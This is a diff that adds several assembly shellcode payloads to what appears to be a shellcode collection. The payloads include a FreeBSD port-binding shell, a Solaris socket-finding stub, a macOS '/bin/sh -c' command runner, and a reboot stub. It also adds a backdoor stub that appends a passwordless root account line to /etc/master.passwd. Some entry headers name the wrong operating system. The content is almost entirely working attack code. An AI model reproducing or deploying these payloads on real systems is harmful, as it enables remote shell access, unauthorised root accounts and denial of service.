@@ -485,3 +485,135 @@ w:	push eax
 	push ebx
 	mov al, 59
 	call edi
+
+;= freebsd_portbind64_rand 32 | freebsd x86 | execute /bin//sh
+	xor ecx, ecx
+	mul ecx
+	push ecx
+	push byte 1
+	push byte 2
+	push eax
+	mov al, 97
+	int 80h
+	xchg edi, eax
+	push ecx
+	push edi
+	push ecx
+	push byte 106
+	pop eax
+	int 80h
+	push ecx
+	push ecx
+	push edi
+	push ecx
+	push byte 30
+	pop eax
+	int 80h
+	xchg edi, eax
+	push byte 2
+	pop esi
+d:	push esi
+	push edi
+	push ecx
+	push byte 90
+	pop eax
+	int 80h
+	dec esi
+	jns d
+	xor eax, eax
+	push eax
+	push dword '//sh'
+	push dword '/bin'
+	mov ebx, esp
+	push eax
+	push ebx
+	mov ecx, esp
+	push eax
+	push ecx
+	push ebx
+	push eax
+	mov al, 59
+	int 80h
+
+;= solaris_findsock 32 | solaris x86 | call getpeername
+	xor ebx, ebx
+	mov ebp, esp
+	push dword 0x3cffffff
+	push byte 0x7f
+	sub esp, byte 0x20
+	mov edi, esp
+n:	inc ebx
+	cmp ebx, 0x100
+	je x
+	push byte 16
+	mov ecx, esp
+	push byte 1
+	push ecx
+	push edi
+	push ebx
+	xor eax, eax
+	push eax
+	mov al, 243
+	int 91h
+	add esp, byte 24
+	cmp word [edi + 2], 0x5c11
+	jne n
+x:	push ebx
+	push eax
+	push byte 1
+	pop eax
+	int 91h
+
+;= macos64_system 64 | macos x86_64 | execute /bin/sh -c
+	jmp b
+a:	pop rdi
+	xor eax, eax
+	mov [rdi + 7], al
+	lea rcx, [rdi + 8]
+	lea rdx, [rdi + 11]
+	push rax
+	push rdx
+	push rcx
+	push rdi
+	mov rsi, rsp
+	xor edx, edx
+	mov eax, 0x200003b
+	syscall
+b:	call a
+	db '/bin/shX-c', 0, 'id;say hello', 0
+
+;= netbsd_reboot 32 | freebsd x86 | call system.shutdown
+	xor eax, eax
+	cdq
+	push eax
+	mov al, 2
+	push edx
+	push byte 8
+	push eax
+	mov al, 55
+	int 80h
+
+;= openbsd_adduser 32 | freebsd x86 | write /etc/master
+	jmp short b
+a:	pop esi
+	xor eax, eax
+	mov [esi + 18], al
+	push byte 9
+	push esi
+	push eax
+	mov al, 5
+	int 80h
+	push byte 40
+	lea ecx, [esi + 19]
+	push ecx
+	push eax
+	push eax
+	push byte 4
+	pop eax
+	int 80h
+	push eax
+	push byte 1
+	pop eax
+	int 80h
+b:	call a
+	db '/etc/master.passwd', 'Xkenbi::0:0::0:0:x:/root:/bin/sh', 10, '        '
